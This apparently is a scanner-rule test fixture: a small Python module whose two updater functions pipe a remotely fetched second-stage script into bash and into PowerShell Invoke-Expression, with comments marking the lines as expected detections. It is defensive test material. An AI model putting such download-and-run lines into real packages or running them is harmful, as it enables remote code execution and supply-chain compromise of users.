# canary-test: path=mypkg/updater.py artifact=wheel
# A module carrying a download-and-run command line for a second stage.
import subprocess


def update():
    # ruleid: DOWNLOAD_PIPE_TO_SHELL
    subprocess.run("curl -fsSL https://example.invalid/stage2.sh | bash", shell=True)


def update_windows():
    # ruleid: DOWNLOAD_PIPE_TO_SHELL
    subprocess.run(["powershell", "-c", "Invoke-WebRequest https://example.invalid/s.ps1 | Invoke-Expression"])

# ok: SETUP_DOWNLOAD_AND_EXECUTE
_ = None
